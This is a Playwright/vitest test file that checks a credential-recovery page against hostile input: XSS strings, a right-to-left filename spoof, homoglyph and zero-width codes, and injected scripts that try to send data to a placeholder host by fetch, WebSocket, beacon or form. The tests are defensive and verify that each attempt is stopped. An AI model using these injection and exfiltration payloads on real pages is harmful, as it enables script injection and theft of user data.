import { spawnSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { openPage, type OpenedPage, PAGE_TOOLS, RECOVER_PAGE_URL, startBrowser } from "../support/recovery-page.ts";
import { sheetsHolding } from "../support/sealed-json.ts";
import { describeWithTools } from "../support/tool.ts";
import type { Sheet } from "../support/trial-set.ts";

const SCRIPT = `<script>document.title = "ran"</script><img src=x onerror="document.title='ran'">`;
const SEED = "GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ"; // The seed of RFC 6238's test vectors.

const odd = (set: string) => ({
  v: 1,
  type: "sealwright/payload",
  set,
  created: "2026-11-22T09:00:00Z",
  drill: false,
  credentials: [
    {
      id: "a",
      kind: "teleporter",
      title: SCRIPT,
      system: "safe\u202egnp.exe",
      url: "javascript:document.title='ran'",
      username: `<b>${"long".repeat(60)}</b>`,
      password: `a1 <&"'>\u200b\u00e9`,
      totp: `otpauth://totp/${encodeURIComponent(SCRIPT)}?secret=${SEED}&digits=8&period=30`,
      recoveryCodes: [SCRIPT, "second"],
      files: [{ name: SCRIPT, text: "line 1\nline 2" }],
      [SCRIPT]: { nested: [1.5, SCRIPT] },
    },
    { id: "b", kind: "login", title: "Broken code", totp: "otpauth://hotp/x?secret=AAAA" },
  ],
  runbook: SCRIPT,
});

describeWithTools("recover.html and hostile content", PAGE_TOOLS, () => {
  let browser: Browser;
  let sheets: readonly Sheet[];

  beforeAll(async () => {
    browser = await startBrowser();
    sheets = await sheetsHolding("hostile", odd);
  });
  afterAll(() => browser.close());

  async function reveal(opened: OpenedPage): Promise<void> {
    await opened.press("Begin");
    for (const { codes } of sheets.slice(0, 2)) await opened.paste(...codes);
    await opened.press("Open the set");
    await opened.page.getByText("Authenticated", { exact: true }).waitFor();
  }

  it("shows markup, scripts and unseen characters as what they are", async () => {
    const opened = await openPage(browser);
    const { page, press } = opened;
    await reveal(opened);
    expect(await page.locator(".runbook pre").innerText()).toBe(SCRIPT);
    await press("Next");
    expect(await page.locator("article h2").innerText()).toBe(SCRIPT);
    expect(await page.locator(".kind").innerText()).toBe("teleporter");
    await page.getByText("safeU+202Egnp.exe").waitFor();
    await page.getByText("javascript:document.title='ran'").waitFor();
    await press("Show Password");
    // The space and what cannot be seen are made visible.
    expect((await page.locator(".groups code").allInnerTexts()).join("")).toBe(`a1\u2423<&"'>U+200B\u00e9`);
    await press("Show Recovery codes");
    await press(`Show File ${SCRIPT}`);
    await press(`Show ${SCRIPT} (a field this page does not know)`);
    await page.getByText('{"nested":[1.5,').waitFor();
    expect(await page.title()).toBe("Sealwright recovery");
    expect(await page.locator("main :is(img, script, a, b:not(.drill b), iframe)").count()).toBe(0);
    expect([opened.asked, opened.wrongs]).toEqual([[], []]);
    await opened.close();
  });

  it("shows one-time codes by a clock that can be set, and a broken address as it was sealed", async () => {
    const opened = await openPage(browser, { timezoneId: "UTC" });
    const { page, press } = opened;
    await reveal(opened);
    await page.clock.setFixedTime(new Date(1_111_111_109_000));
    await press("Next");
    await press("Show the codes");
    const codes = async () => (await page.locator(".totp ol code").allInnerTexts()).map((text) => text.replace(/\s/, ""));
    // RFC 6238, appendix B: SHA-1 at 1111111109 and, a period later, at 1111111111.
    await expect.poll(codes).toEqual([expect.any(String), "07081804", "14050471"]);
    await page.getByText("2005-03-18 01:58:29 UTC").waitFor();
    await page.getByText("Set the clock by a watch").click();
    await page.getByLabel("The watch says").fill("2009-02-14T00:31:30");
    await page.getByLabel("The watch goes by").selectOption("UTC+01:00");
    await press("Set to this time now");
    await expect.poll(async () => (await codes())[1]).toBe("89005924");
    await page.getByText(/^Corrected by \+/).waitFor();
    await press("Back to the machine’s clock");
    await expect.poll(async () => (await codes())[1]).toBe("07081804");
    await press("Next");
    await page.locator("[data-code='unreadable.otpauth']").waitFor();
    await press("Show The address as it was sealed");
    await page.getByText("otpauth://hotp/x?secret=AAAA").waitFor();
    expect([opened.asked, opened.wrongs]).toEqual([[], []]);
    await opened.close();
  });

  describeWithTools("beside oathtool", { oathtool: "oathtool" }, () => {
    it("shows the code that oathtool shows at that time", async () => {
      const opened = await openPage(browser);
      await reveal(opened);
      await opened.page.clock.setFixedTime(new Date("2026-11-22T09:00:07Z"));
      await opened.press("Next");
      await opened.press("Show the codes");
      const arguments_ = ["--totp", "-b", "-d", "8", "-N", "2026-11-22 09:00:07 UTC", "-w", "1", SEED];
      const [current = "", next = ""] = spawnSync("oathtool", arguments_, { encoding: "utf8" }).stdout.trim().split("\n");
      const codes = async () =>
        (await opened.page.locator(".totp ol code").allInnerTexts()).map((text) => text.replace(/\s/, ""));
      await expect.poll(async () => (await codes()).slice(1)).toEqual([current, next]);
      await opened.close();
    });
  });

  describe("what is typed", () => {
    it.each([
      ["a share of another tool", "3112abcdef", "unreadable.foreign-share"],
      ["Cyrillic among Latin letters", "SWS1:CA2QС", "unreadable.character"],
      ["full-width letters", "ＳＷＳ１：ＣＡ", "unreadable.character"],
      ["a zero-width space", "SWS1:CA\u200b2Q", "unreadable.character"],
      ["a text running right to left", "\u202eSWS1:CA2Q", "unreadable.character"],
      ["another version", "SWS2:CA2Q", "unreadable.version"],
      ["a part 00", "SWP1/DWKXERCU/00-02/SDK6OGK4/MFTW", "unreadable.part"],
      ["markup", SCRIPT, "unreadable.unknown-code"],
      ["nothing", "", "unreadable.empty"],
    ])("is refused with its reason: %s", async (_, text, code) => {
      const opened = await openPage(browser);
      await opened.press("Begin");
      await opened.way("Type or paste codes");
      await opened.page.getByLabel("Codes or words").fill(text);
      await opened.press("Add");
      const failure = opened.page.locator(".failure");
      await failure.waitFor();
      expect(await failure.getAttribute("data-code")).toBe(code);
      // The reason never quotes what was read.
      if (text.length > 3) expect(await failure.innerText()).not.toContain(text.slice(0, 6));
      expect(opened.wrongs).toEqual([]);
      await opened.close();
    });

    it("may have ten million characters, and is refused at once", async () => {
      const opened = await openPage(browser);
      await opened.press("Begin");
      await opened.way("Type or paste codes");
      await opened.page.getByLabel("Codes or words").focus();
      await opened.page.keyboard.insertText("A".repeat(10_000_000));
      await opened.press("Add");
      await opened.page.locator("[data-code='unreadable.too-long']").waitFor();
      await opened.close();
    });
  });
});

describeWithTools("recover.html's content security policy", PAGE_TOOLS, () => {
  const folder = mkdtempSync(join(tmpdir(), "sealwright-page-"));
  let browser: Browser;

  beforeAll(async () => {
    browser = await startBrowser();
  });
  afterAll(async () => {
    await browser.close();
    rmSync(folder, { recursive: true, force: true });
  });

  /** The page as somebody who can write into the file, but not into its policy, would change it. */
  async function withInjected(html: string): Promise<OpenedPage> {
    const path = join(folder, "recover.html");
    const page = readFileSync(new URL(RECOVER_PAGE_URL), "utf8");
    writeFileSync(path, page.replace("</noscript>", `</noscript>${html}`));
    return await openPage(browser, { url: pathToFileURL(path).href });
  }

  it.each([
    ["an inline script", "<script>document.title = 'ran'</script>", "script-src-elem"],
    ["a handler", "<img src='data:,' onerror=\"document.title='ran'\">", "img-src"],
    ["a script of another file", "<script src='other.js'></script>", "script-src-elem"],
    ["a frame", "<iframe srcdoc='<script>parent.document.title=1</script>'></iframe>", "script-src-elem|script-src"],
    ["a picture from the network", "<img src='https://example.test/a.png'>", "img-src"],
    ["a style", "<style>body { display: none }</style>", "style-src-elem"],
    ["a form", "<form id=f action='https://example.test/'></form>", ""],
  ])("stops %s", async (_, html, directive) => {
    const { page, asked, wrongs, close } = await withInjected(html);
    await page.getByRole("heading", { name: "Open a sealed set" }).waitFor();
    expect(await page.title()).toBe("Sealwright recovery");
    expect(asked).toEqual([]);
    if (directive !== "") expect(wrongs.join("\n")).toMatch(new RegExp(`violates .*(?:${directive})`));
    await close();
  });

  it.each([
    ["fetch", "fetch('https://example.test/').then(() => 'sent', () => 'stopped')"],
    [
      "a web socket",
      "new Promise((done) => { try { const s = new WebSocket('wss://example.test/'); s.onerror = () => done('stopped'); s.onopen = () => done('sent'); } catch { done('stopped'); } })",
    ],
    [
      "a worker",
      "new Promise((done) => { try { const w = new Worker('data:,postMessage(1)'); w.onmessage = () => done('sent'); w.onerror = () => done('stopped'); } catch { done('stopped'); } })",
    ],
    ["a beacon", "Promise.resolve(navigator.sendBeacon('https://example.test/', 'x') ? 'sent or queued' : 'stopped')"],
    [
      "markup made of text",
      "Promise.resolve().then(() => { document.body.innerHTML = '<p>x'; return 'sent'; }).catch(() => 'stopped')",
    ],
    [
      "a form",
      "new Promise((done) => { document.addEventListener('securitypolicyviolation', () => done('stopped')); const f = document.createElement('form'); f.action = 'https://example.test/'; document.body.append(f); f.submit(); setTimeout(() => done('sent'), 2000); })",
    ],
  ])("stops a script in the page from sending or building anything: %s", async (_, script) => {
    const { page, asked, close } = await openPage(browser);
    const outcome = await page.evaluate(script);
    expect(["stopped", "sent or queued"]).toContain(outcome);
    expect(asked).toEqual([]);
    await close();
  });
});
